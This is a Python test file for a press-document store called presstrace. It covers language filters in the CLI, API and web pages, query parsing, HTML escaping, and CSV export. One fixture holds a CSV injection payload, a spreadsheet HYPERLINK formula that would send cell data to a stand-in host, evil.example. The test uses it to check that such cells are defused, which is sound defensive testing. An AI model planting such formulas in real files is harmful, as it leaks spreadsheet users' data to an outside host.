"""The query layer and the language filter everywhere (CLI list/search/export, API, web
pages), in process on a small hand-made store: no pipeline, no subprocess."""

from __future__ import annotations

import hashlib
import json

import pytest
from fastapi.testclient import TestClient

from presstrace.api import create_app
from presstrace.cli import main
from presstrace.model import Document, Published, RawDocument
from presstrace.store import open_store, queries

TEXTS = {
    "en": "The harbour bridge opened on Monday, the mayor said.",
    "de": "Die Hafenbrücke wurde am Montag eröffnet, sagte der Bürgermeister harbour.",
    "fr": "Le pont du port a ouvert lundi, a dit le maire harbour.",
}


@pytest.fixture
def db(tmp_path) -> str:
    path = str(tmp_path / "q.db")
    store = open_store(path)
    pairs = []
    for lang, text in TEXTS.items():
        digest = hashlib.sha256(text.encode()).hexdigest()
        raw = RawDocument(id=digest, source=f"{lang}.txt", content=text)
        doc = Document(id=digest, source=raw.source, title=f"Bridge ({lang})", text=text,
                       published=Published(date="2024-03-04"), language=lang)  # fmt: skip
        pairs.append((raw, doc))
    store.add_batch(pairs)
    store.close()
    return path


def test_one_search_with_a_language_filter(db):
    store = open_store(db)
    try:
        assert {h.source for h in queries.hits(store, "harbour")} == {"en.txt", "de.txt", "fr.txt"}
        assert [h.source for h in queries.hits(store, "harbour", language="de")] == ["de.txt"]
        page = queries.search(store, "harbour", language="fr")
        assert [h["source"] for h in page] == ["fr.txt"]
        assert ["harbour", True] in page[0]["snippet"]
        assert queries.hits(store, "   ") == []
    finally:
        store.close()


def test_cli_list_search_export_take_lang(db, tmp_path, capsys):
    assert main(["--db", db, "list", "--lang", "fr", "--json"]) == 0
    assert [r["language"] for r in json.loads(capsys.readouterr().out)["items"]] == ["fr"]
    assert main(["--db", db, "search", "harbour", "--lang", "de", "--json"]) == 0
    assert [h["source"] for h in json.loads(capsys.readouterr().out)["items"]] == ["de.txt"]
    out = tmp_path / "de.jsonl"
    assert main(["--db", db, "export", "--lang", "de", "-o", str(out)]) == 0
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["language"] for r in records] == ["de"]
    assert main(["--db", db, "export"]) == 0  # no filter: every document
    assert len(capsys.readouterr().out.splitlines()) == 3


def test_api_and_pages_take_language(db):
    client = TestClient(create_app(db), base_url="http://127.0.0.1")
    hits = client.get("/api/search", params={"q": "harbour", "language": "en"}).json()["hits"]
    assert [h["source"] for h in hits] == ["en.txt"]
    docs = client.get("/api/documents", params={"language": "fr"}).json()
    assert docs["total"] == 1 and docs["items"][0]["language"] == "fr"
    page = client.get("/search", params={"q": "harbour", "language": "de"}).text
    assert "de.txt" in page or "Bridge (de)" in page
    assert "Bridge (en)" not in page
    listing = client.get("/documents", params={"language": "de"}).text
    assert "Bridge (de)" in listing and "Bridge (fr)" not in listing


def test_show_and_the_document_page_say_what_was_not_done(tmp_path, capsys):
    """A stage's abstention is shown, not hidden: `show` and the web page list it, escaped."""
    path = str(tmp_path / "a.db")
    text = TEXTS["de"]
    digest = hashlib.sha256(text.encode()).hexdigest()
    why = "no NER model for language 'de': only names known in the corpus <b>"
    doc = Document(id=digest, source="de.txt", title="Brücke", text=text, language="de",
                   abstained={"entities": why, "narratives": "off-domain"})  # fmt: skip
    store = open_store(path)
    store.add_batch([(RawDocument(id=digest, source="de.txt", content=text), doc)])
    store.close()
    assert main(["--db", path, "show", digest]) == 0
    out = capsys.readouterr().out
    assert "not done   entities: no NER model for language 'de'" in out
    assert "not done   narratives: off-domain" in out
    client = TestClient(create_app(path), base_url="http://127.0.0.1")  # the Host check
    page = client.get(f"/documents/{digest}")
    assert page.status_code == 200
    assert "Not done for this document" in page.text
    assert "no NER model for language &#39;de&#39;" in page.text and "<b>" not in page.text


def test_cli_query_language_facets_and_timeline(db, capsys):
    assert main(["--db", db, "search", "--json", "--", "harbour", "-mayor"]) == 0
    page = json.loads(capsys.readouterr().out)
    assert page["total"] == 2 and {i["source"] for i in page["items"]} == {"de.txt", "fr.txt"}
    assert {v["value"]: v["n"] for v in page["facets"]["language"]["values"]} == {"de": 1, "fr": 1}
    assert main(["--db", db, "search", '"the mayor said"']) == 0
    out = capsys.readouterr().out
    assert out.startswith('1 document for "the mayor said"') and "en.txt" not in out
    assert "language   en 1" in out
    assert main(["--db", db, "list", "lang:de", "lang:fr", "--sort", "oldest", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["total"] == 2
    assert main(["--db", db, "search", "harbour -mayor", "--json"]) == 0  # quoted: one word
    assert json.loads(capsys.readouterr().out)["total"] == 2
    assert main(["--db", db, "search", '"unclosed']) == 2
    err = capsys.readouterr().err
    assert err == "presstrace: unclosed quote (column 1)\n"
    assert main(["--db", db, "search", "ha*"]) == 2  # a prefix every word could start
    assert "ha* is too short a prefix" in capsys.readouterr().err
    assert main(["--db", db, "search", "har*", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["total"] == 3
    client = TestClient(create_app(db), base_url="http://127.0.0.1")
    refused = client.get("/api/search", params={"q": "ha*"})
    assert refused.status_code == 422 and "too short a prefix" in refused.text
    assert main(["--db", db, "timeline", "harbour", "--compare", "mayor", "--by", "day",
                 "--json"]) == 0  # fmt: skip
    found = json.loads(capsys.readouterr().out)
    assert [b["counts"] for b in found["buckets"]] == [[3, 1]]
    assert found["buckets"][0]["links"] == ["harbour after:2024-03-04 before:2024-03-04",
                                            "mayor after:2024-03-04 before:2024-03-04"]
    assert main(["--db", db, "timeline", "harbour", "--compare", "mayor"]) == 0
    out = capsys.readouterr().out
    assert "A: harbour: 3 documents" in out and "B: mayor: 1 document" in out
    assert main(["--db", db, "timeline", "harbour", "--story", "x"]) == 2


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, capsys):
    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a
    leading single quote in every CSV (CLI export, /api/export, one table); JSONL keeps it."""
    import csv
    import io

    from presstrace.exports import stream_table, write_table
    from presstrace.store.queries.tables import TABLES

    path = str(tmp_path / "f.db")
    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    text = "-2+3 said the harbour master"
    digest = hashlib.sha256(text.encode()).hexdigest()
    doc = Document(id=digest, source="f.txt", title=title, text=text, outlet="@outlet",
                   language="en", published=Published(date="2024-03-04"))  # fmt: skip
    store = open_store(path)
    store.add_batch([(RawDocument(id=digest, source="f.txt", content=text), doc)])
    store.close()
    out = tmp_path / "f.csv"
    assert main(["--db", path, "export", "--format", "csv", "-o", str(out)]) == 0
    (row,) = csv.DictReader(io.StringIO(out.read_text()))
    assert (row["title"], row["text"], row["outlet"]) == ("'" + title, "'" + text, "'@outlet")
    assert row["language"] == "en" and row["published"] == "2024-03-04"
    client = TestClient(create_app(path), base_url="http://127.0.0.1")
    (api_row,) = csv.DictReader(io.StringIO(client.get("/api/export?format=csv").text))
    assert api_row == row
    (record,) = client.get("/api/export?format=json").json()
    assert record["title"] == title and record["text"] == text  # JSON keeps the text as is
    quote = {"doc_id": digest, "n": 0, "speaker": "\tTab", "text": "+1 for the bridge",
             "direct": True, "cue": "\rsaid", "confidence": -0.5, "start": 0, "end": 4,
             "title": "plain"}  # fmt: skip
    columns = TABLES["quotes"].columns
    written = io.StringIO()
    assert write_table([quote], columns, "csv", written) == 1
    streamed = "".join(stream_table([quote], columns, "csv"))
    for body in (written.getvalue(), streamed):
        (cells,) = csv.DictReader(io.StringIO(body))
        assert cells["speaker"] == "'\tTab" and cells["text"] == "'+1 for the bridge"
        assert cells["cue"] == "'\rsaid" and cells["title"] == "plain"
        assert cells["confidence"] == "-0.5"  # a number stays a number
